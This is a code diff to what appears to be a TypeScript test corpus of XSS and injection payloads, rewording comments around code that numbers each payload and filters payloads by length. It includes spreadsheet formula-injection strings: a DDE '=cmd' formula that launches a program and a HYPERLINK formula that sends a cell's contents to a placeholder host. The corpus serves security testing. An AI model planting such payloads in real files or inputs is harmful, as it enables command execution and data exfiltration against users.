@@ -292,17 +292,17 @@ const TEMPLATES: Record<string, string[]> = {
 };
 
 export interface Payload {
-  /** As it is typed. */
+  /** As typed. */
   text: string;
   kind: string;
 }
 
-/** The whole corpus, each with a number of its own in it. */
+/** All payloads, each with a unique number. */
 export const PAYLOADS: Payload[] = Object.entries(TEMPLATES)
   .flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
   .map(({ kind, text }, index) => ({
     kind,
-    // The at-sign of an address stands as it is.
+    // Keeps the @ of an e-mail address.
     text: text.replace(/@(?!import|keyframes|xss\.|\{)/g, `__xss(${index})`).replace(/~/g, String(index)),
   }));
 
@@ -318,11 +318,11 @@ export function packed(max: number, separator = ' '): string[] {
   return texts;
 }
 
-/** Those that fit, one by one. */
+/** Payloads that fit, one by one. */
 export const within = (max: number): string[] =>
   PAYLOADS.map(({ text }) => text).filter((text) => Array.from(text).length <= max);
 
-/** Cells that a spreadsheet would take for a formula, or for a call of a program. */
+/** Cells that spreadsheets would run as a formula or command. */
 export const FORMULAS = [
   "=cmd|'/C calc'!A0",
   '=HYPERLINK("https://xss.invalid/?"&A1,"Open")',
